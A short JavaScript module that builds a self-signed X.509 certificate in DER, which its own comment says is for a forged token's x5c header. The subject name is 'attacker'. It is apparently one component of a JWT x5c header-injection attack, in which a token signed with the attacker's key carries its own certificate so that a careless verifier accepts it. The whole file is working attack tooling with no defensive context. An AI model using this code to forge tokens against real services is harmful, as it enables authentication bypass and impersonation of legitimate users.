// A self-signed certificate in DER, for a forged token's x5c header.

import crypto from 'node:crypto';

const OID = {
  commonName: '0603550403',
  ecdsaSha256: '06082a8648ce3d040302',
};

function der(tag, ...parts) {
  const body = Buffer.concat(parts.map((part) => (
    typeof part === 'string' ? Buffer.from(part, 'hex') : part)));
  const length = body.length < 128
    ? Buffer.from([body.length])
    : Buffer.from([0x82, body.length >> 8, body.length & 255]);
  return Buffer.concat([Buffer.from([tag]), length, body]);
}

const sequence = (...parts) => der(0x30, ...parts);

const time = (date) => der(0x17, Buffer.from(
  `${date.toISOString().replace(/[-:T]/g, '').slice(2, 14)}Z`));

export function selfSigned(jwk) {
  const key = crypto.createPrivateKey({ key: jwk, format: 'jwk' });
  const spki = crypto.createPublicKey(key).export({ type: 'spki', format: 'der' });
  const name = sequence(der(0x31, sequence(OID.commonName, der(0x0c, Buffer.from('attacker')))));
  const algorithm = sequence(OID.ecdsaSha256);
  const now = Date.now();
  const validity = sequence(time(new Date(now - 3600e3)), time(new Date(now + 86400e3)));
  const serial = der(0x02, '01');
  const version = der(0xa0, der(0x02, '02'));

  const body = sequence(version, serial, algorithm, name, validity, name, spki);
  const signature = crypto.sign('sha256', body, key);
  return sequence(body, algorithm, der(0x03, '00', signature));
}
